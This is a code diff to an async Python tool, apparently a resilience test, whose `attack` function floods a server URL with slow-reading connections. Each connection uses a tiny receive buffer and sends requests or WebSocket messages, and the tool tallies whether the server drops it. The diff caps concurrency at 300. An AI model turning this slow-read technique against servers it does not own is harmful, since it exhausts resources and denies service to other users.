@@ -13,6 +13,7 @@ PATIENCE = 60.0
 TINY = 4_096
 GONE = select.POLLHUP | select.POLLERR
 PAUSE = 0.02
+AT_ONCE = 300
 
 
 async def attack(url: str, count: int) -> Counter[str]:
@@ -27,25 +28,27 @@ async def attack(url: str, count: int) -> Counter[str]:
         ("requests", request, request),
         ("messages", handshake(url, table, cookie), message * 100),
     )
-    return Counter(await asyncio.gather(*(_asks(url, *kinds[number % 2]) for number in range(count))))
+    room = asyncio.Semaphore(AT_ONCE)
+    return Counter(await asyncio.gather(*(_asks(room, url, *kinds[number % 2]) for number in range(count))))
 
 
-async def _asks(url: str, name: str, first: bytes, more: bytes) -> str:
+async def _asks(room: asyncio.Semaphore, url: str, name: str, first: bytes, more: bytes) -> str:
     where = urlsplit(url)
     loop = asyncio.get_running_loop()
-    with socket.socket() as sock:
-        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, TINY)
-        sock.setblocking(False)
-        try:
-            async with asyncio.timeout(PATIENCE):
-                await loop.sock_connect(sock, (where.hostname, where.port))
-                await loop.sock_sendall(sock, first)
-                await asyncio.sleep(PAUSE)
-                await _ask_on(sock, more)
-        except TimeoutError:
-            return f"{name} still open"
-        except OSError:
-            pass
+    async with room:
+        with socket.socket() as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, TINY)
+            sock.setblocking(False)
+            try:
+                async with asyncio.timeout(PATIENCE):
+                    await loop.sock_connect(sock, (where.hostname, where.port))
+                    await loop.sock_sendall(sock, first)
+                    await asyncio.sleep(PAUSE)
+                    await _ask_on(sock, more)
+            except TimeoutError:
+                return f"{name} still open"
+            except OSError:
+                pass
     return f"{name} cut off"
 
 
